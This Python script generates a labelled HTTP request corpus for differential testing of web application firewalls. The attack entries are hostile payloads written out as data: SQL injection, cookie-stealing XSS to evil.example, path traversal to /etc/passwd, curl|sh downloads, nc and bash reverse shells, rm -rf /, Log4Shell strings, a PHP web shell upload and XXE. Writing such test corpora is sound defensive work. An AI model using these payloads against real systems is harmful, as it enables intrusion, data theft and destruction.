#!/usr/bin/env python3
"""Writes requests.txt, the differential corpus (run: python3 gen_requests.py).

Format of requests.txt (parsed by tests/spoa/support/nginx.rs `Corpus::parse`):

    === <name> <benign|attack|policy>
    <request line>
    <header lines>
    <empty line>
    <body lines, optional>

Head lines are sent joined with CRLF. Body lines are joined with LF, or CRLF when the
Content-Type is multipart; trailing empty lines are dropped. With `Transfer-Encoding:
chunked` the body lines are the chunks (size line, data line, ..., `0`), joined with CRLF
and ended with an empty line. `Content-Length` is added
when there is a body and neither Content-Length nor Transfer-Encoding is given;
`Connection: close` is added when no Connection header is given.
Lines starting with `#` before the first entry are comments.
"""

import urllib.parse

UA_FF = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"
UA_CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
             "(KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36")
UA_SAFARI = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 "
             "(KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1")
UAS = [UA_FF, UA_CHROME, UA_SAFARI]
HOST = "shop.example.com"

entries = []


def base_headers(i=0, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"):
    return [
        ("Host", HOST),
        ("User-Agent", UAS[i % len(UAS)]),
        ("Accept", accept),
        ("Accept-Language", "en-US,en;q=0.5"),
        ("Accept-Encoding", "gzip, deflate"),
    ]


def add(name, kind, method, target, headers=None, body="", version="HTTP/1.1", extra=None):
    h = list(headers if headers is not None else base_headers(len(entries)))
    if extra:
        h.extend(extra)
    entries.append((name, kind, f"{method} {target} {version}", h, body))


def q(s):
    return urllib.parse.quote(s, safe="")


def form(**kv):
    return urllib.parse.urlencode(kv)


FORM = [("Content-Type", "application/x-www-form-urlencoded")]
JSON = [("Content-Type", "application/json")]
XML = [("Content-Type", "application/xml")]

# ---------------------------------------------------------------- benign
pages = ["/", "/index.html", "/about", "/contact", "/blog/2023/11/hello-world",
         "/products", "/products/42", "/products/42/reviews", "/cart", "/checkout",
         "/static/css/site.css", "/static/js/app.3f2a1c.js", "/images/logo.png",
         "/favicon.ico", "/robots.txt", "/sitemap.xml", "/docs/getting-started",
         "/api/v1/status", "/en-us/help/faq", "/careers/engineering"]
for i, p in enumerate(pages):
    add(f"benign-page-{i:02}", "benign", "GET", p)

queries = [
    "/search?q=running+shoes&sort=price_asc&page=2",
    "/search?q=" + q("women's jackets") + "&size=M",
    "/search?q=" + q("c++ programming book"),
    "/search?q=" + q("50% off sale"),
    "/products?category=electronics&brand=acme&min=10&max=200",
    "/products?ids=1,2,3,4,5",
    "/news?date=2023-11-29&tz=Europe%2FBerlin",
    "/map?lat=52.5200&lng=13.4050&zoom=12",
    "/track?utm_source=newsletter&utm_medium=email&utm_campaign=black_friday",
    "/login?next=%2Faccount%2Forders",
    "/search?q=" + q("how to select the best laptop"),
    "/search?q=" + q("union station parking"),
    "/calendar?from=2024-01-01&to=2024-01-31&view=month",
    "/download?file=report-2023.pdf",
    "/api/v1/items?limit=50&offset=100&fields=id,name,price",
    "/search?q=" + q("rock & roll t-shirt"),
    "/search?q=caf%C3%A9+cr%C3%A8me",
    "/search?q=%E6%9D%B1%E4%BA%AC",
    "/share?url=" + q("https://shop.example.com/products/42"),
    "/search?q=" + q("drop shipping"),
    "/product?id=1234&variant=blue-xl",
    "/search?q=" + q("script writing course"),
    "/search?q=" + q("alert necklace"),
    "/search?q=" + q("1 or 2 pieces"),
    "/weather?city=" + q("São Paulo"),
]
for i, p in enumerate(queries):
    add(f"benign-query-{i:02}", "benign", "GET", p)

cookies = [
    "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark",
    "_ga=GA1.2.1234567890.1699999999; _gid=GA1.2.987654321.1700000000",
    "cart=%7B%22items%22%3A3%7D; lang=en",
    "consent=necessary,analytics; sid=abc123XYZ",
    "remember_token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
]
for i, c in enumerate(cookies):
    add(f"benign-cookie-{i}", "benign", "GET", "/account", extra=[("Cookie", c)])

forms = [
    form(username="alice", password="correct horse battery staple", remember="1"),
    form(email="bob@example.org", subject="Order 1234", message="Hi, my parcel has not arrived yet. Can you check?"),
    form(name="Jane O'Neil", street="12 Main St.", city="Springfield", zip="12345"),
    form(q="shoes", page="3"),
    form(comment="Great product, would buy again! 5/5", rating="5"),
    form(newsletter="yes", email="carol@example.net"),
    form(amount="19.99", currency="EUR", card_last4="4242"),
    form(title="Meeting notes", body="Discussed Q4 roadmap; next steps: hiring, budget."),
    form(search="select a color", filter="in-stock"),
    form(bio="I love hiking & cooking. Living in Berlin since 2015."),
]
for i, b in enumerate(forms):
    add(f"benign-form-{i}", "benign", "POST", "/submit", body=b, extra=FORM)

jsons = [
    '{"items":[{"sku":"A-1","qty":2},{"sku":"B-7","qty":1}],"coupon":null}',
    '{"email":"dave@example.com","password":"S3cure!pass"}',
    '{"query":"running shoes","filters":{"size":[42,43],"color":"black"}}',
    '{"event":"page_view","ts":1701234567,"props":{"path":"/products/42"}}',
    '{"comment":"Looks good to me, thanks for the quick fix.","approve":true}',
    '[1,2,3,4,5]',
    '{"address":{"street":"1 Infinite Loop","city":"Cupertino","zip":"95014"}}',
    '{"settings":{"notifications":{"email":false,"sms":true},"lang":"de"}}',
]
for i, b in enumerate(jsons):
    add(f"benign-json-{i}", "benign", "POST", "/api/v1/orders", body=b,
        headers=base_headers(i, "application/json"), extra=JSON)

add("benign-xml-0", "benign", "POST", "/api/soap", body='<?xml version="1.0"?><order><id>42</id><qty>1</qty></order>',
    headers=base_headers(1, "application/xml"), extra=XML)
add("benign-xml-1", "benign", "POST", "/feed", body='<?xml version="1.0"?><note><to>Tove</to><body>Remember the milk</body></note>',
    headers=base_headers(2, "application/xml"), extra=[("Content-Type", "text/xml")])

boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
mp = "\n".join([
    f"--{boundary}",
    'Content-Disposition: form-data; name="title"',
    "",
    "Holiday photo",
    f"--{boundary}",
    'Content-Disposition: form-data; name="file"; filename="beach.txt"',
    "Content-Type: text/plain",
    "",
    "sand, sea and sun",
    f"--{boundary}--",
])
add("benign-multipart-0", "benign", "POST", "/upload", body=mp,
    extra=[("Content-Type", f"multipart/form-data; boundary={boundary}")])

add("benign-head", "benign", "HEAD", "/products/42")
add("benign-options", "benign", "OPTIONS", "/api/v1/orders",
    extra=[("Origin", "https://app.example.com"), ("Access-Control-Request-Method", "POST")])
add("benign-conditional", "benign", "GET", "/static/css/site.css",
    extra=[("If-None-Match", '"5f3c-1a2b"'), ("If-Modified-Since", "Wed, 21 Oct 2015 07:28:00 GMT")])
add("benign-range", "benign", "GET", "/video/intro.mp4", extra=[("Range", "bytes=0-1023")])
add("benign-bearer", "benign", "GET", "/api/v1/me",
    headers=base_headers(0, "application/json"),
    extra=[("Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI0MiJ9.abc")])
add("benign-basic-auth", "benign", "GET", "/admin/", extra=[("Authorization", "Basic YWxpY2U6c2VjcmV0")])
add("benign-referer", "benign", "GET", "/products/42", extra=[("Referer", "https://www.google.com/search?q=acme+shoes")])
add("benign-xff", "benign", "GET", "/", extra=[("X-Forwarded-For", "198.51.100.7"), ("X-Request-Id", "9b2f1c6e-3c1a-4f3e-9d2b-1f0e2a3b4c5d")])
add("benign-http10", "benign", "GET", "/", version="HTTP/1.0")
add("benign-curl", "benign", "GET", "/api/v1/status",
    headers=[("Host", HOST), ("User-Agent", "curl/8.4.0"), ("Accept", "*/*")])
add("benign-python-requests", "benign", "GET", "/api/v1/status",
    headers=[("Host", HOST), ("User-Agent", "python-requests/2.31.0"), ("Accept", "*/*"), ("Accept-Encoding", "gzip, deflate")])
add("benign-mobile-app", "benign", "GET", "/api/v1/feed?since=1701234567",
    headers=[("Host", HOST), ("User-Agent", "ShopApp/5.2.1 (iOS 17.1; iPhone14,2)"), ("Accept", "application/json")])
add("benign-long-query", "benign", "GET", "/search?" + "&".join(f"f{i}=v{i}" for i in range(40)))
add("benign-empty-post", "benign", "POST", "/api/v1/ping", extra=[("Content-Length", "0")])
add("benign-graphql", "benign", "POST", "/graphql",
    body='{"query":"query { product(id: 42) { name price } }"}', headers=base_headers(0, "application/json"), extra=JSON)
add("benign-websocket-upgrade", "benign", "GET", "/ws",
    extra=[("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")])
add("benign-dnt", "benign", "GET", "/", extra=[("DNT", "1"), ("Upgrade-Insecure-Requests", "1"), ("Cache-Control", "max-age=0")])
add("benign-unicode-path", "benign", "GET", "/wiki/K%C3%B6ln")
add("benign-encoded-slash-param", "benign", "GET", "/redirect?to=%2Fhome%2Fdashboard")
add("benign-sql-word-in-text", "benign", "POST", "/feedback",
    body=form(text="Please update my order and select express delivery"), extra=FORM)

# ---------------------------------------------------------------- attacks: SQLi
sqli = [
    "1' OR '1'='1",
    "1 OR 1=1",
    "1' OR 1=1--",
    "' UNION SELECT username, password FROM users--",
    "1 UNION ALL SELECT NULL,NULL,NULL--",
    "1; DROP TABLE users",
    "1' AND SLEEP(5)--",
    "1) AND (SELECT 1 FROM (SELECT SLEEP(5))a)--",
    "admin'--",
    "1' WAITFOR DELAY '0:0:5'--",
    "1 AND 1=CONVERT(int,(SELECT @@version))",
    "' OR 'x'='x",
    "1' ORDER BY 10--",
    "-1' UNION SELECT 1,table_name FROM information_schema.tables--",
    "1' AND extractvalue(1,concat(0x7e,version()))--",
    "1 AND benchmark(10000000,md5(1))",
    "1';EXEC xp_cmdshell('dir')--",
    "' OR pg_sleep(5)--",
    "1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
    "1/**/UNION/**/SELECT/**/1,2,3",
]
for i, s in enumerate(sqli):
    add(f"sqli-query-{i:02}", "attack", "GET", f"/products?id={q(s)}")
add("sqli-form", "attack", "POST", "/login", body=form(username="admin' OR '1'='1", password="x"), extra=FORM)
add("sqli-form-union", "attack", "POST", "/search", body=form(q="' UNION SELECT card_number FROM payments--"), extra=FORM)
add("sqli-json", "attack", "POST", "/api/v1/login", body='{"user":"admin\' OR 1=1--","pass":"x"}',
    headers=base_headers(0, "application/json"), extra=JSON)
add("sqli-cookie", "attack", "GET", "/account", extra=[("Cookie", "session=abc' OR '1'='1; lang=en")])
add("sqli-header-referer", "attack", "GET", "/", extra=[("Referer", "https://x.example/?id=1' UNION SELECT password FROM users--")])
add("sqli-user-agent", "attack", "GET", "/", headers=[("Host", HOST), ("User-Agent", "Mozilla/5.0' AND SLEEP(5)--"), ("Accept", "*/*")])
add("sqli-path-param-name", "attack", "GET", "/list?" + q("1' or '1'='1") + "=1")
add("sqli-xml", "attack", "POST", "/api/soap",
    body="<?xml version=\"1.0\"?><order><id>1' UNION SELECT password FROM users--</id></order>",
    headers=base_headers(1, "application/xml"), extra=XML)

# ---------------------------------------------------------------- XSS
xss = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg onload=alert(1)>",
    "javascript:alert(document.domain)",
    "\"><script>fetch('//evil.example/?c='+document.cookie)</script>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert('xss')>",
    "<a href=\"javascript:void(0)\" onclick=\"alert(1)\">x</a>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "'-alert(1)-'",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<details open ontoggle=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
]
for i, s in enumerate(xss):
    add(f"xss-query-{i:02}", "attack", "GET", f"/search?q={q(s)}")
add("xss-form", "attack", "POST", "/guestbook", body=form(name="bob", comment="<script>alert(document.cookie)</script>"), extra=FORM)
add("xss-form-event", "attack", "POST", "/profile", body=form(bio="<img src=1 onerror=\"alert(1)\">"), extra=FORM)
add("xss-json", "attack", "POST", "/api/v1/comments", body='{"text":"<script>alert(1)</script>"}',
    headers=base_headers(2, "application/json"), extra=JSON)
add("xss-cookie", "attack", "GET", "/", extra=[("Cookie", "pref=<script>alert(1)</script>")])
add("xss-referer", "attack", "GET", "/", extra=[("Referer", "https://x.example/<script>alert(1)</script>")])
add("xss-multipart", "attack", "POST", "/upload", body="\n".join([
    f"--{boundary}", 'Content-Disposition: form-data; name="caption"', "",
    "<svg/onload=alert(1)>", f"--{boundary}--"]),
    extra=[("Content-Type", f"multipart/form-data; boundary={boundary}")])

# ---------------------------------------------------------------- LFI / path traversal
lfi = [
    "../../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "....//....//....//etc/passwd",
    "/etc/shadow",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts",
    "/proc/self/environ",
    "../../../../../../boot.ini",
    "file:///etc/passwd",
    "..%252f..%252f..%252fetc%252fpasswd",
]
for i, s in enumerate(lfi):
    target = f"/download?file={s}" if "%" in s else f"/download?file={q(s)}"
    add(f"lfi-query-{i}", "attack", "GET", target)
add("lfi-path", "attack", "GET", "/static/..%2F..%2F..%2Fetc%2Fpasswd")
add("lfi-form", "attack", "POST", "/view", body=form(page="../../../../etc/passwd"), extra=FORM)
add("lfi-json", "attack", "POST", "/api/v1/template", body='{"name":"../../../../etc/passwd"}',
    headers=base_headers(0, "application/json"), extra=JSON)

# ---------------------------------------------------------------- RFI
rfi = [
    "http://evil.example/shell.txt?",
    "https://198.51.100.66/c99.php",
    "ftp://evil.example/x.txt?",
    "http://203.0.113.5/include.php?",
]
for i, s in enumerate(rfi):
    add(f"rfi-query-{i}", "attack", "GET", f"/index.php?page={q(s)}")

# ---------------------------------------------------------------- RCE
rce = [
    "; cat /etc/passwd",
    "| id",
    "`id`",
    "$(whoami)",
    "&& wget http://evil.example/x.sh -O /tmp/x.sh",
    "; curl http://evil.example/x | sh",
    "127.0.0.1; ls -la /",
    "; nc -e /bin/sh 198.51.100.66 4444",
    "| powershell -enc SQBFAFgA",
    "; bash -i >& /dev/tcp/198.51.100.66/4444 0>&1",
    "; /bin/sh -c 'uname -a'",
    "|| ping -c 3 127.0.0.1",
]
for i, s in enumerate(rce):
    add(f"rce-query-{i:02}", "attack", "GET", f"/ping?host={q(s)}")
add("rce-shellshock-ua", "attack", "GET", "/cgi-bin/status",
    headers=[("Host", HOST), ("User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'"), ("Accept", "*/*")])
add("rce-form", "attack", "POST", "/tools/ping", body=form(host="8.8.8.8; cat /etc/passwd"), extra=FORM)
add("rce-json", "attack", "POST", "/api/v1/exec", body='{"cmd":"; rm -rf / --no-preserve-root"}',
    headers=base_headers(0, "application/json"), extra=JSON)

# ---------------------------------------------------------------- PHP / Java / Node injection
php = [
    "<?php system($_GET['c']); ?>",
    "php://input",
    "php://filter/convert.base64-encode/resource=index.php",
    "phpinfo()",
    "eval(base64_decode('ZWNobyAxOw=='))",
    "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
]
for i, s in enumerate(php):
    add(f"php-query-{i}", "attack", "GET", f"/index.php?x={q(s)}")
add("php-form", "attack", "POST", "/comment.php", body=form(c="<?php echo shell_exec('id'); ?>"), extra=FORM)
java = [
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "%{(#_='multipart/form-data').(#cmd='id')}",
]
for i, s in enumerate(java):
    add(f"java-query-{i}", "attack", "GET", f"/app?name={q(s)}")
add("java-log4shell-ua", "attack", "GET", "/",
    headers=[("Host", HOST), ("User-Agent", "${jndi:ldap://evil.example/exploit}"), ("Accept", "*/*")])
add("java-log4shell-header", "attack", "GET", "/", extra=[("X-Api-Version", "${jndi:rmi://evil.example/x}")])
add("node-injection", "attack", "GET", "/calc?expr=" + q("require('child_process').exec('id')"))
add("node-proto-pollution", "attack", "POST", "/api/v1/merge", body='{"__proto__":{"isAdmin":true}}',
    headers=base_headers(0, "application/json"), extra=JSON)

# ---------------------------------------------------------------- session fixation
add("session-fixation-query", "attack", "GET", "/login?" + q("jsessionid") + "=" + q("1234567890ABCDEF") + "&x=" + q("<meta http-equiv=\"Set-Cookie\" content=\"sessionid=abc\">"))
add("session-fixation-cookie-in-arg", "attack", "GET", "/?foo=" + q("document.cookie=\"sessionid=1234;\""))

# ---------------------------------------------------------------- scanners
scanners = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Nikto/2.1.6",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:000001)",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "gobuster/3.6",
    "Acunetix-WVS",
]
for i, ua in enumerate(scanners):
    add(f"scanner-ua-{i}", "attack", "GET", "/",
        headers=[("Host", HOST), ("User-Agent", ua), ("Accept", "*/*")])

# ---------------------------------------------------------------- protocol / policy
add("policy-method-put", "policy", "PUT", "/api/v1/items/1", body='{"name":"x"}',
    headers=base_headers(0, "application/json"), extra=JSON)
add("policy-method-delete", "policy", "DELETE", "/api/v1/items/1")
add("policy-method-patch", "policy", "PATCH", "/api/v1/items/1", body='{"name":"y"}',
    headers=base_headers(0, "application/json"), extra=JSON)
add("policy-method-propfind", "policy", "PROPFIND", "/webdav/")
add("policy-method-trace", "policy", "TRACE", "/")
add("policy-content-type", "policy", "POST", "/upload", body="hello", extra=[("Content-Type", "application/x-evil")])
add("policy-charset-utf7", "policy", "POST", "/submit", body="a=b",
    extra=[("Content-Type", "application/x-www-form-urlencoded; charset=utf-7")])
add("policy-ext-bak", "policy", "GET", "/config.php.bak")
add("policy-ext-sql", "policy", "GET", "/backup/db.sql")
add("policy-ext-ini", "policy", "GET", "/settings.ini")
add("policy-ext-env", "policy", "GET", "/.env")
add("policy-git-config", "policy", "GET", "/.git/config")
add("policy-htaccess", "policy", "GET", "/.htaccess")
add("policy-header-proxy", "policy", "GET", "/", extra=[("Proxy", "http://evil.example:8080")])
add("policy-header-lock-token", "policy", "GET", "/", extra=[("Lock-Token", "<opaquelocktoken:1>")])
add("proto-null-byte", "attack", "GET", "/download?file=report.pdf%00.php")
add("proto-null-byte-form", "attack", "POST", "/submit", body="name=a%00b", extra=FORM)
add("proto-bad-url-encoding", "attack", "GET", "/search?q=%G1%ZZ")
add("proto-range-many", "attack", "GET", "/video.mp4",
    extra=[("Range", "bytes=" + ",".join(f"{i}-{i}" for i in range(0, 70, 1)))])
add("proto-crlf-injection", "attack", "GET", "/redirect?url=" + "%0d%0aSet-Cookie:%20evil=1")
add("proto-response-splitting", "attack", "GET", "/lang?l=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK")
add("proto-http-header-injection-arg", "attack", "GET", "/?x=" + q("a\r\nX-Injected: 1"))
add("proto-missing-ua-accept", "benign", "GET", "/", headers=[("Host", HOST)])
add("proto-numeric-host", "benign", "GET", "/", headers=[("Host", "203.0.113.10"), ("User-Agent", UA_FF), ("Accept", "*/*")])
add("proto-smuggling-body", "attack", "POST", "/submit",
    body="x=1\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n", extra=FORM)
add("proto-unicode-fullwidth", "attack", "GET", "/search?q=%uff1cscript%uff1ealert(1)%uff1c/script%uff1e")
add("proto-invalid-json", "attack", "POST", "/api/v1/orders", body='{"items": [1, 2',
    headers=base_headers(0, "application/json"), extra=JSON)
add("proto-multipart-bad-boundary", "attack", "POST", "/upload",
    body="--x\nContent-Disposition: form-data; name=\"a\"\n\nb\n--y--",
    extra=[("Content-Type", "multipart/form-data; boundary=x")])
add("proto-content-length-nonnumeric-arg", "attack", "GET", "/?a=1&a=" + q("' or 1=1 --"))

# ---------------------------------------------------------------- benign look-alikes
add("lookalike-apostrophe-name", "benign", "GET", "/search?q=" + q("O'Reilly books"))
add("lookalike-math", "benign", "GET", "/calc?expr=" + q("3 + 4 * (2 - 1)"))
add("lookalike-path-dots", "benign", "GET", "/files/v1.2.3/release-notes.txt")
add("lookalike-email-plus", "benign", "GET", "/unsubscribe?email=" + q("bob+news@example.com"))
add("lookalike-code-snippet", "benign", "POST", "/forum/post",
    body=form(text="Use a for-loop: for i in range(10): print(i)"), extra=FORM)
add("lookalike-html-entity", "benign", "GET", "/search?q=" + q("fish & chips"))
add("lookalike-url-param", "benign", "GET", "/out?to=" + q("https://partner.example.org/offer?id=7"))
add("lookalike-semicolon", "benign", "GET", "/search?q=" + q("tea; coffee; juice"))


# ---------------------------------------------------------------- more real-world shapes
def chunked(*parts):
    out = []
    for p in parts:
        out.append(format(len(p), "x"))
        out.append(p)
    out.append("0")
    return "\n".join(out)

add("benign-chunked-form", "benign", "POST", "/submit", body=chunked("name=alice&", "city=Berlin"),
    extra=FORM + [("Transfer-Encoding", "chunked")])
add("attack-chunked-sqli", "attack", "POST", "/submit", body=chunked("id=1%27%20OR%20", "%271%27%3D%271"),
    extra=FORM + [("Transfer-Encoding", "chunked")])
add("benign-chunked-json", "benign", "POST", "/api/v1/events", body=chunked('{"event":"click",', '"x":10,"y":20}'),
    headers=base_headers(0, "application/json"), extra=JSON + [("Transfer-Encoding", "chunked")])
add("benign-absolute-form", "benign", "GET", f"http://{HOST}/products/42?color=red")
add("benign-http10-no-host", "benign", "GET", "/status", version="HTTP/1.0",
    headers=[("User-Agent", "check_http/v2.3.3 (monitoring-plugins 2.3.3)"), ("Accept", "*/*")])
add("benign-lowercase-headers", "benign", "GET", "/api/v1/items",
    headers=[("host", HOST), ("user-agent", "okhttp/4.12.0"), ("accept", "application/json"), ("accept-encoding", "gzip")])
add("benign-duplicate-header", "benign", "GET", "/",
    extra=[("X-Forwarded-For", "198.51.100.7"), ("X-Forwarded-For", "203.0.113.9")])
add("benign-long-cookie", "benign", "GET", "/account",
    extra=[("Cookie", "; ".join(f"c{i}=v{i:04}abcdefabcdef" for i in range(60)))])
add("benign-oauth-callback", "benign", "GET",
    "/oauth/callback?code=4%2F0AfJohXmJ3kQ9yP7dQ&state=af0ifjsldkj&scope=openid%20email%20profile")
add("benign-ga-collect", "benign", "POST", "/g/collect",
    body="v=2&tid=G-ABC123&cid=123.456&en=page_view&dl=https%3A%2F%2Fshop.example.com%2F&dt=Shop%20Home&sr=1920x1080",
    extra=[("Content-Type", "text/plain;charset=UTF-8")])
add("benign-webhook-json", "benign", "POST", "/webhooks/payments",
    body='{"id":"evt_1Nv","type":"payment_intent.succeeded","data":{"object":{"amount":2000,"currency":"usd","metadata":{"order":"1234"}}}}',
    headers=[("Host", HOST), ("User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"), ("Accept", "*/*; q=0.5, application/xml"),
             ("Stripe-Signature", "t=1492774577,v1=5257a869e7ecebeda32affa62cdca3fa51cad7e77a0e56ff536d0ce8e108d8bd")],
    extra=JSON)
add("benign-markdown-post", "benign", "POST", "/forum/reply",
    body=form(text="Thanks! I fixed it by running `npm install` again.\n\n- step one\n- step two"), extra=FORM)
add("benign-base64-json", "benign", "POST", "/api/v1/avatar",
    body='{"image":"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="}',
    headers=base_headers(0, "application/json"), extra=JSON)
add("benign-quoted-search", "benign", "GET", "/search?q=" + q('"red shoes" size 42'))
add("benign-non-ascii-header", "benign", "GET", "/", extra=[("X-User-Name", "Jürgen Müller")])
add("benign-etag-list", "benign", "GET", "/feed.xml", extra=[("If-None-Match", '"a1", "b2", W/"c3"')])
add("benign-accept-many", "benign", "GET", "/img/hero.webp",
    headers=base_headers(0, "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8"))
add("benign-soap-action", "benign", "POST", "/ws/orders",
    body='<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetOrder><Id>42</Id></GetOrder></soap:Body></soap:Envelope>',
    headers=base_headers(1, "text/xml"), extra=[("Content-Type", "text/xml; charset=utf-8"), ("SOAPAction", '"urn:GetOrder"')])
add("attack-xxe", "attack", "POST", "/api/soap",
    body='<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><order><id>&xxe;</id></order>',
    headers=base_headers(1, "application/xml"), extra=XML)
add("attack-json-nested-sqli", "attack", "POST", "/api/v1/search",
    body='{"filter":{"and":[{"name":"x"},{"id":"1 UNION SELECT password FROM users"}]}}',
    headers=base_headers(0, "application/json"), extra=JSON)
add("attack-upload-php-shell", "attack", "POST", "/upload", body="\n".join([
    f"--{boundary}", 'Content-Disposition: form-data; name="file"; filename="shell.php"',
    "Content-Type: application/x-php", "", "<?php system($_GET['cmd']); ?>", f"--{boundary}--"]),
    extra=[("Content-Type", f"multipart/form-data; boundary={boundary}")])
add("attack-xss-xff", "attack", "GET", "/", extra=[("X-Forwarded-Host", "<script>alert(1)</script>")])
add("attack-sqli-lowercase-headers", "attack", "GET", "/item?id=" + q("1 union select 1,2,3--"),
    headers=[("host", HOST), ("user-agent", "okhttp/4.12.0"), ("accept", "*/*")])
add("attack-sqli-http10", "attack", "GET", "/item?id=" + q("1' or '1'='1"), version="HTTP/1.0",
    headers=[("User-Agent", UA_FF), ("Accept", "*/*")])
add("attack-rce-cookie", "attack", "GET", "/", extra=[("Cookie", "debug=" + q(";cat /etc/passwd"))])
add("attack-lfi-cookie", "attack", "GET", "/", extra=[("Cookie", "template=../../../../etc/passwd")])
add("attack-php-wrapper-form", "attack", "POST", "/include", body=form(f="php://filter/resource=/etc/passwd"), extra=FORM)
add("attack-ssti", "attack", "GET", "/hello?name=" + q("{{7*7}}${7*7}<%= 7*7 %>"))
add("attack-absolute-form-sqli", "attack", "GET", f"http://{HOST}/item?id=" + q("1' OR '1'='1"))
# Targets HAProxy's `path` leaves empty or shortens: `*` (nginx refuses it itself, 400: the
# test compares with libmodsecurity run directly on the same rules), and absolute-form.
add("benign-options-asterisk", "benign", "OPTIONS", "*",
    headers=[("Host", "127.0.0.1"), ("User-Agent", "probe/1.0"), ("Accept", "*/*")])
add("benign-options-asterisk-named-host", "benign", "OPTIONS", "*")
add("benign-absolute-form-no-path", "benign", "GET", f"http://{HOST}")
add("benign-options-absolute-form", "benign", "OPTIONS", f"http://{HOST}/api/v1/items")

lines = ["# Differential corpus for lastcall-spoa (nginx + ModSecurity vs HAProxy + lastcall-spoa).",
         "# Generated by gen_requests.py; format described there."]
for name, kind, rl, headers, body in entries:
    lines.append(f"=== {name} {kind}")
    lines.append(rl)
    for k, v in headers:
        lines.append(f"{k}: {v}")
    lines.append("")
    if body:
        lines.extend(body.replace("\r\n", "\n").split("\n"))
open("requests.txt", "w").write("\n".join(lines) + "\n")
kinds = {}
for e in entries:
    kinds[e[1]] = kinds.get(e[1], 0) + 1
print(len(entries), kinds)
